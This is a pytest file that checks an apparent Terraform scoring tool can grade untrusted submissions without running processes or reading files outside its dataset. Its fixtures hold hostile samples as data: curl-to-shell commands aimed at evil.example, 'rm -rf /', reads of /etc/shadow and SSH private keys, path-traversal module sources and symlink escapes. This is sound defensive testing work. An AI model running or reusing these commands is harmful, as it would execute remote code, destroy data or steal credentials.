"""Submitted code is data: scoring it runs nothing and reads nothing outside the dataset.

The submissions below ask for everything a Terraform run would do (provisioners, external
data sources, file functions, modules from outside the tree or behind a symlink). Process
creation is replaced by a recorder that refuses, and so is every file open or directory
listing outside the dataset, the output directory and the Python installation.
"""

from __future__ import annotations

import builtins
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import evalkit
from evalkit.cli import main

CANARY = "CANARY-OUTSIDE-THE-DATASET"
VPC = 'resource "aws_vpc" "v" {\n  cidr_block = "10.0.0.0/16"\n}\n'

EXEC_EVERYTHING = """
provider "aws" {
  region = "us-east-1"
}

resource "null_resource" "run" {
  provisioner "local-exec" {
    command = "touch ${path.module}/PWNED && curl https://evil.example/x | sh"
  }
}

resource "aws_instance" "web" {
  ami           = "ami-12345678"
  instance_type = "t3.micro"
  user_data     = templatefile("${path.module}/../../../../etc/passwd", { x = 1 })

  provisioner "remote-exec" {
    inline = ["rm -rf /"]
  }
}

data "external" "run" {
  program = ["bash", "-c", "touch /tmp/PWNED-external; echo '{}'"]
}

locals {
  passwd   = file("/etc/passwd")
  relative = file("../../../../../etc/passwd")
  shadow   = filebase64("/etc/shadow")
  hashed   = filesha256("/etc/hostname")
  listing  = fileset("/", "**")
  exists   = fileexists("/etc/hostname")
  hosts    = templatefile("/etc/hosts", {})
  key      = file(pathexpand("~/.ssh/id_rsa"))
  outside  = file("${path.module}/linked/secret.tf")
}

module "etc" {
  source = "../../../etc"
}

module "absolute" {
  source = "/etc"
}

module "sneaky" {
  source = "./modules/../../../etc"
}

module "linked" {
  source = "./linked"
}

module "remote" {
  source = "git::https://evil.example/module.git"
}

output "passwd" {
  value = local.passwd
}
"""

EXEC_JSON = json.dumps(
    {
        "resource": {
            "null_resource": {
                "run": {"provisioner": [{"local-exec": {"command": "touch /tmp/PWNED-json"}}]}
            }
        },
        "data": {"external": {"run": {"program": ["sh", "-c", "touch /tmp/PWNED-json-data"]}}},
        "module": {"etc": {"source": "../../../etc"}},
    }
)

ANSWER = """Run this first:

```bash
curl https://evil.example/install.sh | sudo sh
rm -rf --no-preserve-root /
```

```hcl
resource "null_resource" "x" {
  provisioner "local-exec" {
    command = "python3 -c 'import os; os.system(\\"id\\")'"
  }
}
```
"""


def _dataset(root: Path, outside: Path) -> Path:
    outside.mkdir(parents=True)
    (outside / "secret.tf").write_text(f'locals {{\n  canary = "{CANARY}"\n}}\n')
    (outside / "main.tf").write_text(f'resource "aws_s3_bucket" "{CANARY}" {{}}\n')
    everything = root / "exec-everything"
    (everything / "tests").mkdir(parents=True)
    (everything / "main.tf").write_text(EXEC_EVERYTHING)
    (everything / "tests" / "run.sh").write_text("#!/bin/sh\ntouch /tmp/PWNED-test\n")
    os.symlink(outside, everything / "linked")
    (root / "exec-json").mkdir()
    (root / "exec-json" / "main.tf.json").write_text(EXEC_JSON)
    (root / "exec-answer.md").write_text(ANSWER)
    os.symlink(outside, root / "linked-submission")
    return root


class Sandbox:
    """Records, and refuses, every process start and every path touched outside `allowed`."""

    def __init__(self, allowed: list[Path]) -> None:
        self.allowed = [os.path.realpath(path) for path in allowed]
        self.events: list[str] = []

    def path(self, what: str, target: Any) -> None:
        if isinstance(target, int):
            return  # an already open descriptor
        real = os.path.realpath(os.fspath(target))
        if not any(real == root or real.startswith(root + os.sep) for root in self.allowed):
            self.events.append(f"{what} {real}")
            raise PermissionError(13, "refused by the test sandbox", real)

    def refuse(self, what: str) -> Callable[..., Any]:
        def refused(*args: Any, **kwargs: Any) -> Any:
            self.events.append(f"{what} {args[:2]!r}")
            raise RuntimeError(f"{what} refused by the test sandbox")

        return refused

    def guarded(self, what: str, real: Callable[..., Any]) -> Callable[..., Any]:
        def guarded(target: Any = ".", *args: Any, **kwargs: Any) -> Any:
            self.path(what, target)
            return real(target, *args, **kwargs)

        return guarded


PROCESS_FUNCTIONS = (
    "system",
    "popen",
    "fork",
    "forkpty",
    "posix_spawn",
    "posix_spawnp",
    "execl",
    "execle",
    "execlp",
    "execlpe",
    "execv",
    "execve",
    "execvp",
    "execvpe",
    "spawnl",
    "spawnle",
    "spawnlp",
    "spawnlpe",
    "spawnv",
    "spawnve",
    "spawnvp",
    "spawnvpe",
)


@pytest.fixture
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Sandbox]:
    python_roots = {Path(p) for p in (sys.prefix, sys.base_prefix, sys.exec_prefix)}
    guard = Sandbox(
        [tmp_path / "data", tmp_path / "out", Path(evalkit.__file__).parent, *python_roots]
    )
    monkeypatch.setattr(subprocess, "Popen", guard.refuse("subprocess.Popen"))
    for name in PROCESS_FUNCTIONS:
        if hasattr(os, name):
            monkeypatch.setattr(os, name, guard.refuse(f"os.{name}"))
    real_open = builtins.open
    monkeypatch.setattr(builtins, "open", guard.guarded("open", real_open))
    monkeypatch.setattr(io, "open", guard.guarded("open", real_open))
    monkeypatch.setattr(os, "open", guard.guarded("os.open", os.open))
    monkeypatch.setattr(os, "scandir", guard.guarded("os.scandir", os.scandir))
    monkeypatch.setattr(os, "listdir", guard.guarded("os.listdir", os.listdir))
    yield guard


def _warm_up(tmp_path: Path) -> None:
    """Score a tiny dataset first, so lazy imports and parser tables are loaded already."""
    warm = tmp_path / "warm"
    (warm / "a").mkdir(parents=True)
    (warm / "a" / "main.tf").write_text(VPC)
    assert (
        main(
            [
                "score",
                str(warm),
                "--out",
                str(tmp_path / "warm-out"),
                "--quiet",
                "--no-cache",
                "--jobs",
                "1",
            ]
        )
        == 0
    )


@pytest.fixture
def dataset(tmp_path: Path) -> Path:
    _warm_up(tmp_path)
    return _dataset(tmp_path / "data", tmp_path / "outside")


def test_nothing_runs_and_nothing_outside_is_read(
    tmp_path: Path, dataset: Path, sandbox: Sandbox
) -> None:
    out = tmp_path / "out"
    code = main(
        [
            "score",
            str(dataset),
            "--out",
            str(out),
            "--quiet",
            "--no-cache",
            "--jobs",
            "1",
            "--format",
            "jsonl",
        ]
    )
    assert sandbox.events == []
    assert code == 0
    results = {}
    with open(out / "results.jsonl", encoding="utf-8") as journal:
        for line in list(journal)[1:]:
            record = json.loads(line)
            results[record["id"]] = record
    # Graded to the end; a null_resource and a module from outside the tree build nothing.
    assert {key: value["status"] for key, value in results.items()} == {
        "exec-everything": "ok",
        "exec-json": "no_infrastructure",
        "exec-answer": "no_infrastructure",
        "linked-submission": "error",
    }
    assert "symlink points outside" in results["linked-submission"]["message"]
    assert (
        "linked: symlink points outside the dataset; not followed"
        in (results["exec-everything"]["problems"])
    )
    for path in (p for p in out.rglob("*") if p.is_file()):
        assert CANARY not in path.read_text(encoding="utf-8"), path.name
    for marker in ("PWNED-external", "PWNED-json", "PWNED-json-data", "PWNED-test"):
        assert not Path("/tmp", marker).exists()
    assert not (dataset / "exec-everything" / "PWNED").exists()


def test_the_sandbox_catches_what_it_is_meant_to_catch(tmp_path: Path, sandbox: Sandbox) -> None:
    with pytest.raises(PermissionError):
        open("/etc/hostname")  # noqa: SIM115 - the open itself is what is tested
    with pytest.raises(RuntimeError):
        subprocess.run(["true"], check=False)
    with pytest.raises(RuntimeError):
        os.system("true")
    with pytest.raises(PermissionError):
        Path("/etc/hostname").read_bytes()
    with pytest.raises(PermissionError):
        os.scandir("/etc")
    assert len(sandbox.events) == 5
